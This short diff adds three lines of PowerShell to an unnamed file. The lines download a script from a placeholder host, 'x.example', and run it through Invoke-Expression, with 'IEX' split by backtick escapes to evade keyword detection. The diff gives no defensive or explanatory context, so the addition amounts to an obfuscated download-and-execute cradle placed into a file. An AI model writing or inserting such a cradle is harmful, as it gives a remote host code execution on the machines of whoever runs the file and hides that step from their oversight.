@@ -1,0 +1,3 @@
+$c = New-Object Net.WebClient
+I`E`X $c.DownloadString("http://x.example")
+<# c #>
